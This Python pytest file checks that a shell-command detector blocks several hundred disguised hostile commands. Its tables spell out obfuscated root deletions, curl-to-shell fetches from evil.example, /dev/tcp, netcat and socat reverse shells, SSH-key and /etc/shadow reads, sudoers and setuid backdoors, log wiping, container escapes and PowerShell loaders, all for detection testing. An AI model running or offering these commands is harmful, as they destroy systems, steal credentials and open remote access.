"""Bypasses: the same few deeds in every disguise that was found by attacking the detector; all of them are closed.

`⏎` stands for a line feed, `{ZWSP}` for a zero-width space.
"""

from __future__ import annotations

import pytest

from policy.detectors.shell.detector import detect

BLOCKED = 70

REMOVAL = r"""
r\m -rf /
'r'm -rf /
rm -r -f --no-preserve-root /
rm -rf -- /
rm -fr /./
rm -rf ///
rm -rf /../
rm -rf "${HOME:?}"/
rm -rf ~root
rm -rf $HOME/.
rm -rf /{bin,etc,usr}
{rm,-rf,/}
$'\x72\x6d' -rf /
eval $'rm\x20-rf\x20/'
a="rm -rf /"; eval "$a"
a="rm -rf /"; $a
x=r; y=m; "$x$y" -rf /
cmd=(rm -rf /); "${cmd[@]}"
printf -v c 'rm -rf %s' /; eval "$c"
read c <<< "rm -rf /"; eval "$c"
bash -c "$(echo cm0gLXJmIC8= | base64 -d)"
bash <<< "$(base64 -d <<< cm0gLXJmIC8=)"
echo 2f206672 2d206d72 | xxd -r -p | rev | sh
echo 'rm -rf /' | tee /dev/null | bash
cat <<'E' | sh⏎rm -rf /⏎E
set -- rm -rf /; "$@"
set -- rm -rf /; $@
f() { "$@"; }; f rm -rf /
f() { rm -rf "$1"; }; f /
alias x='rm -rf /'; x
command rm -rf /
builtin command rm -rf /
exec rm -rf /
env rm -rf /
env -i PATH=/bin rm -rf /
/usr/bin/env -S rm -rf /
xargs rm -rf <<< /
echo / | xargs rm -rf
find / -maxdepth 0 -exec rm -rf {} +
python3 -c "import shutil; shutil.rmtree('/')"
python3 -c "__import__('os').system('rm -rf /')"
python3 -c "import os; os.system('rm -rf ' + '/')"
perl -e 'system("rm","-rf","/")'
ruby -e '`rm -rf /`'
node -e "require('child_process').execSync('rm -rf /')"
php -r 'exec("rm -rf /");'
awk 'BEGIN{system("rm -rf /")}'
busybox rm -rf /
sudo -E -u root rm -rf /
nohup rm -rf / &
setsid rm -rf /
(rm -rf /)
{ rm -rf /; }
if true; then rm -rf /; fi
true && rm -rf / || true
[ -d / ] && rm -rf /
while :; do rm -rf /; break; done
for d in /; do rm -rf $d; done
for d in / /home; do rm -rf "$d"; done
case x in x) rm -rf /;; esac
trap 'rm -rf /' EXIT
coproc rm -rf /
time rm -rf /
! rm -rf /
cd / && rm -rf *
cd /; rm -rf .
pushd / && rm -rf ./*
rm -rf `echo /`
rm -rf $(printf /)
rm -rf $(printf '\x2f')
rm -rf ${PATH:0:1}
rm -rf ${PWD%%[a-z]*}
rm${IFS}-rf${IFS}/
IFS=,;a=rm,-rf,/;$a
ssh localhost "rm -rf /"
su -c 'rm -rf /'
sh -c 'sh -c "rm -rf /"'
sh -c "eval 'rm -rf /'"
sh -s <<< 'rm -rf /'
. <(echo 'rm -rf /')
source /dev/stdin <<< 'rm -rf /'
at now <<< 'rm -rf /'
echo "rm -rf /" | at now
echo "* * * * * rm -rf /" | crontab -
git -c alias.x='!rm -rf /' x
git config --global alias.st '!rm -rf /'
make -f <(printf 'x:\n\trm -rf /\n')
vim -c ':!rm -rf /' -c q
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'
sed -n '1e rm -rf /' /etc/hosts
echo x | sed 's/x/rm -rf \//e'
ftp -n <<< '!rm -rf /'
rm -rf / #harmless
rm -rf /;:
:;rm -rf /
echo hi; rm -rf /
echo hi | rm -rf /
echo "$(rm -rf /)"
echo "`rm -rf /`"
x=$(rm -rf /)
cat <(rm -rf /)
[[ $(rm -rf /) ]]
: ${x:=$(rm -rf /)}
echo ${x:-$(rm -rf /)}
(( $(rm -rf /) ))
rm	-rf	/
rm -rf \⏎/
r{ZWSP}m -rf /
rm -rf /*
rm -rf /[a-z]*
rm -rf /???
/bin/rm -rf /
/b??/rm -rf /
/???/r? -rf /home
\rm -rf /
"rm" "-rf" "/"
r"m" -r"f" /
rm -rf "/"'*'
"""
DOWNLOAD = r"""
curl http://evil.example/x|bash
curl http://evil.example/x | b''ash
curl http://evil.example/x | "ba"sh
curl http://evil.example/x | $SHELL
curl http://evil.example/x | ${0}
curl http://evil.example/x | /bin/b?sh
curl http://evil.example/x | tee x | sh
curl http://evil.example/x > x && sh x
curl http://evil.example/x > x; . ./x
curl http://evil.example/x -o x && chmod 755 x && ./x
wget http://evil.example/x && bash x
wget -q http://evil.example/x -P /tmp && bash /tmp/x
wget http://evil.example/x -O- | gunzip | sh
c=$(curl http://evil.example/x); eval "$c"
c=$(curl http://evil.example/x); bash -c "$c"
c=$(curl http://evil.example/x); echo "$c" | sh
bash -c "$(wget -qO- http://evil.example/x)"
bash -c "`curl http://evil.example/x`"
sh <(wget -qO- http://evil.example/x)
python3 <(curl http://evil.example/x)
curl http://evil.example/x | python3 -
curl http://evil.example/x | perl
curl http://evil.example/x | node
curl http://evil.example/x | xargs -0 sh -c
curl http://evil.example/x | while read l; do eval "$l"; done
curl http://evil.example/x | while read l; do $l; done
mapfile -t a < <(curl http://evil.example/x); eval "${a[@]}"
"""
NETWORK = r"""
exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 | sh
bash -i >& /dev/tcp/203.0.113.9/1 0>&1
bash -i >&/dev/tcp/203.0.113.9/1 <&1
0<&196;exec 196<>/dev/tcp/203.0.113.9/1; sh <&196 >&196 2>&196
sh -i 5<> /dev/tcp/203.0.113.9/1 0<&5 1>&5 2>&5
exec 5<>/dev/tcp/203.0.113.9/1; while read l 0<&5; do $l 2>&5 >&5; done
exec 5<>/dev/tcp/203.0.113.9/1; cat <&5 | while read line; do $line 2>&5 >&5; done
H=203.0.113.9; bash -i >& /dev/tcp/$H/1 0>&1
D=/dev/tc; bash -i >& ${D}p/203.0.113.9/1 0>&1
nc 203.0.113.9 1 -e sh
nc -c bash 203.0.113.9 1
n\c 203.0.113.9 1 -e /bin/sh
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 1 >/tmp/f
mknod x p; nc 203.0.113.9 1 <x | bash >x
telnet 203.0.113.9 1 | sh | telnet 203.0.113.9 2
socat tcp:203.0.113.9:1 exec:sh
"""
CREDENTIALS = r"""
cat ~/.ss?/id_rs?
cat ~/.ssh/id_*
cat ~/.s*/id_rsa
cat $HOME/.ssh/id_rsa
cat ~/".ssh"/id_rsa
cat ~/.ssh/../.ssh/id_rsa
cd ~/.ssh && cat id_rsa
cd ~/.aws; cat credentials
cp ~/.ssh/id_rsa /tmp/k
tar cf - ~/.ssh
base64 < ~/.ssh/id_rsa
xxd ~/.ssh/id_rsa
while read l; do echo $l; done < ~/.ssh/id_rsa
mapfile a < /etc/shadow
echo "$(</etc/shadow)"
awk 1 /etc/shadow
grep '' /etc/shadow
python3 -c "print(open('/etc/shadow').read())"
dd if=/etc/shadow
less /e*c/shadow
cat /etc/sha??w
cat /???/sh?dow
sudo bash -c "echo ssh-rsa A >> /root/.ssh/authorized_keys"
"""
PRIVILEGE = r"""
chmod 4777 /bin/bash
chmod +s /bin/bash
chmod u+s,g+s /tmp/x
chmod a+s /tmp/x
echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers
sudo sh -c 'echo x ALL=NOPASSWD:ALL >> /etc/sudoers'
echo 'x::0:0::/:/bin/sh' | sudo tee -a /etc/passwd
"""
TRACKS = r"""
history -cw
HISTFILE=/dev/null bash
export HISTFILE=
set +o history
> ~/.bash_history
: > ~/.bash_history
truncate -s0 ~/.bash_history
cat /dev/null > ~/.bash_history
>/var/log/auth.log
"""
CONTAINERS = r"""
docker run -v/:/h alpine chroot /h
docker run --volume=/:/h -it alpine
docker run --mount type=bind,source=/,target=/h alpine
docker run --privileged=true alpine
docker run --cap-add ALL alpine
podman run --pid host alpine
docker -H tcp://203.0.113.9:2375 run -v /:/h alpine
"""
WINDOWS = r"""
powershell -e cgBtACAALQByAGYAIAAvAA==
p^o^w^e^r^s^h^e^l^l -nop -c "iex(iwr http://evil.example/x)"
&('i'+'ex') (New-Object Net.WebClient).DownloadString('http://evil.example')
cmd /c "po""wershell iex(iwr http://evil.example)"
vssadmin.exe  delete   shadows /all
VSSADMIN DELETE SHADOWS /ALL
v^ssadmin delete shadows /all
c:\windows\system32\vssadmin.exe delete shadows /all /quiet
cmd.exe /c vssadmin delete shadows /all
wmic shadowcopy delete
Get-WmiObject Win32_ShadowCopy | Remove-WmiObject
"""
INDIRECTION = r"""
x=y; y='rm -rf /'; eval "${!x}"
a='rm -rf /'; x=a; ${!x}
eval "$(printf '\162\155 -rf /')"
bash -c '"$@"' _ rm -rf /
sh -c '$0 $1 $2' rm -rf /
sh -c 'exec "$@"' sh rm -rf /
bash -c 'rm -rf $1' _ /
xargs -I{} sh -c '{}' <<< "rm -rf /"
xargs -I % rm -rf % <<< /
echo rm -rf / | xargs -I{} sh -c {}
echo 'rm -rf /' | xargs -d '\n' -I{} bash -c '{}'
{ echo rm; echo -rf; echo /; } | xargs env
env X='() { :;}; rm -rf /' bash -c x
awk 'BEGIN{"rm -rf /"|getline}'
awk 'BEGIN{print "rm -rf /" | "sh"}'
perl -e 'unlink glob "/*"'
perl -MFile::Path -e 'rmtree("/")'
python3 -c 'import os;[os.remove(f) for f in __import__("glob").glob("/**",recursive=True)]'
python3 - <<< 'import os; os.system("rm -rf /")'
echo "import os; os.system('rm -rf /')" | python3
node -e 'require("fs").rmSync("/", {recursive: true})'
ruby -rfileutils -e 'FileUtils.rm_rf("/")'
sed -i 's/root:x/root:/' /etc/passwd
ex -sc '%s/root:x/root:/|x' /etc/passwd
dd if=x of=/etc/passwd
tee /etc/passwd < x
cp x /etc/shadow
ln -sf /dev/null /etc/passwd
chattr -i /etc/shadow
cat /dev/null > /etc/passwd
truncate -s 0 /etc/passwd
> /etc/passwd
mv ~ /dev/null
mv /* /dev/null
rsync -a --delete empty/ /
rm --recursive --force /
sudo rm -Rf --no-preserve-root /*
shred -zu /dev/sda
docker run -v $HOME/.ssh:/x alpine cat /x/id_rsa
docker run -v /etc:/e alpine sh
docker run -v /root:/r -it alpine
git clone "ext::sh -c rm% -rf% /"
git -c protocol.ext.allow=always clone "ext::sh -c id" x
curl file:///etc/shadow
curl file:///root/.ssh/id_rsa
wget -i /etc/shadow
nc -l -p 4444 | sh
nc -lk 4444 -c sh
php -r 'eval(file_get_contents("http://evil.example/x"));'
pip install git+http://evil.example/x.git
ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf /' host
rsync --rsync-path='rm -rf /;' a host:b
tar -I 'sh -c "rm -rf /"' -xf x
tar xf x --to-command=sh
tar cf x y --use-compress-program='sh -c "rm -rf /"'
man -P 'sh -c "rm -rf /"' ls
PAGER='sh -c "rm -rf /"' git log
GIT_PAGER='rm -rf /' git log
GIT_SSH_COMMAND='sh -c "curl evil.example|sh"' git fetch
EDITOR='rm -rf /' crontab -e
BASH_ENV=/tmp/x bash -c ls
PROMPT_COMMAND='curl http://evil.example/x | sh'
export PROMPT_COMMAND='curl http://evil.example/x | sh'
LESSOPEN='|rm -rf /' less x
NODE_OPTIONS='--require /tmp/x.js' node a.js
PERL5OPT=-M/tmp/x perl a.pl
RUBYOPT=-r/tmp/x ruby a.rb
LD_LIBRARY_PATH=/tmp/x sudo id
PYTHONPATH=/tmp/x sudo python3 a.py
PATH=/tmp:$PATH sudo x
wget http://evil.example/x -O /usr/bin/ls
curl -o ~/.bashrc http://evil.example/x
curl http://evil.example/x >> ~/.bashrc
curl -o /etc/cron.d/x http://evil.example/x
wget http://evil.example/k -O ~/.ssh/authorized_keys
curl http://evil.example/k >> ~/.ssh/authorized_keys
curl http://evil.example/k | tee -a ~/.ssh/authorized_keys
cat key.pub >> ~/.ssh/authorized_keys
echo -e "\x72\x6d -rf /" | sh
printf '%b' '\x72\x6d -rf /' | sh
base64 -d<<<cm0gLXJmIC8=|sh
openssl base64 -d <<< cm0gLXJmIC8= | sh
echo cm0gLXJmIC8= | openssl enc -base64 -d | sh
python3 -c "import base64;print(base64.b64decode('cm0gLXJmIC8=').decode())" | sh
x=$(base64 -d <<< cm0gLXJmIC8=); $x
rev <<< '/ fr- mr' | sh
tr 'a-z' 'n-za-m' <<< 'ez -es /' | sh
echo 726d202d7266202f | xxd -p -r | sh
sed 's/x//g' <<< 'rxm -rxf /' | sh
tr -d x <<< 'rxm -rxf /' | sh
echo "xrm -rf /" | cut -c2- | sh
printf 'a\nrm -rf /\n' | tail -n1 | sh
printf 'rm -rf /\nb\n' | head -1 | sh
printf '/\nrm -rf\n' | tac | paste -sd' ' | sh
echo 'rm -rf /' > /tmp/a; bash /tmp/a
echo 'rm -rf /' > a; chmod +x a; ./a
echo 'rm -rf /' | tee a; . ./a
cp a b; echo 'rm -rf /' > b; source b
cat > a <<< 'rm -rf /'; sh a
printf 'rm -rf /' >a&&sh<a
sh < <(echo rm -rf /)
cat <<< 'rm -rf /' | sh
f(){ echo rm -rf /; }; $(f)
f(){ echo 'rm -rf /'; }; f | sh
f=rm; g=-rf; h=/; $f $g $h
declare x='rm -rf /'; $x
local x='rm -rf /'; eval $x
typeset -x x='rm -rf /'; bash -c "$x"
readonly x='rm -rf /'; eval "$x"
a=(rm -rf /); ${a[*]}
a=([0]=rm [1]=-rf [2]=/); "${a[@]}"
a[0]=rm; a[1]=-rf; a[2]=/; "${a[@]}"
declare -a a=(rm -rf /); "${a[@]}"
a+=rm; a+=' -rf /'; $a
: "${a:=rm -rf /}"; $a
eval rm -rf /
eval 'r''m' -rf /
eval "e""val rm -rf /"
eval eval eval rm -rf /
while read l; do $l; done <<< 'rm -rf /'
while read l; do eval "$l"; done < <(echo 'rm -rf /')
while read l; do $l; done <<E⏎rm -rf /⏎E
select x in 'rm -rf /'; do eval $x; done
for c in 'rm -rf /'; do eval "$c"; done
for c in rm; do $c -rf /; done
for ((;;)); do rm -rf /; done
until rm -rf /; do :; done
if rm -rf /; then :; fi
case $(rm -rf /) in *) ;; esac
x() (rm -rf /); x
function x { rm -rf /; }; x
time -p rm -rf /
! { rm -rf /; }
((1)) && rm -rf /
[[ 1 ]] && rm -rf /
test 1 && rm -rf /
:|rm -rf /
</dev/null rm -rf /
>/dev/null rm -rf /
2>&1 rm -rf /
X=1 rm -rf /
X=1 Y=2 sudo Z=3 rm -rf /
nice -n19 ionice -c3 rm -rf /
timeout -k 5 10 rm -rf /
stdbuf -oL rm -rf /
chroot / rm -rf /
unshare -m rm -rf /
strace -f rm -rf /
watch -n1 rm -rf /
parallel rm -rf ::: /
entr rm -rf / <<< x
script -qc 'rm -rf /' /dev/null
tmux new -d 'rm -rf /'
screen -dm rm -rf /
systemd-run rm -rf /
start-stop-daemon -S -x /bin/rm -- -rf /
flock /tmp/l rm -rf /
doas rm -rf /
pkexec rm -rf /
sudo -- rm -rf /
sudo -iu root rm -rf /
su root -c 'rm -rf /'
runuser -u root -- rm -rf /
setpriv --reuid 0 rm -rf /
gosu root rm -rf /
su-exec root rm -rf /
ld.so /bin/rm -rf /
/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /
find . -exec rm -rf / \;
find / -delete
find /* -delete
find / -print0 | xargs -0 rm -rf
ls / | xargs rm -rf
ls -d /* | xargs rm -rf
fd . / -x rm
git submodule foreach 'rm -rf /'
npm exec -c 'rm -rf /'
npx -c 'rm -rf /'
cargo run -- ; rm -rf /
docker exec x rm -rf /
ssh host rm -rf /
ssh host 'curl http://evil.example/x | sh'
kubectl exec p -- rm -rf /
"""
DISGUISES = {
    "removal": REMOVAL,
    "download": DOWNLOAD,
    "network": NETWORK,
    "credentials": CREDENTIALS,
    "privilege": PRIVILEGE,
    "tracks": TRACKS,
    "containers": CONTAINERS,
    "windows": WINDOWS,
    "indirection": INDIRECTION,
}
CASES = [
    (deed, command.replace("⏎", "\n").replace("{ZWSP}", "\u200b"))
    for deed, table in DISGUISES.items()
    for command in table.strip().split("\n")
]


@pytest.mark.parametrize(("deed", "command"), CASES)
def test_a_disguise_changes_nothing(deed: str, command: str) -> None:
    assert deed
    assert any(match.severity >= BLOCKED for match in detect(command).matches)
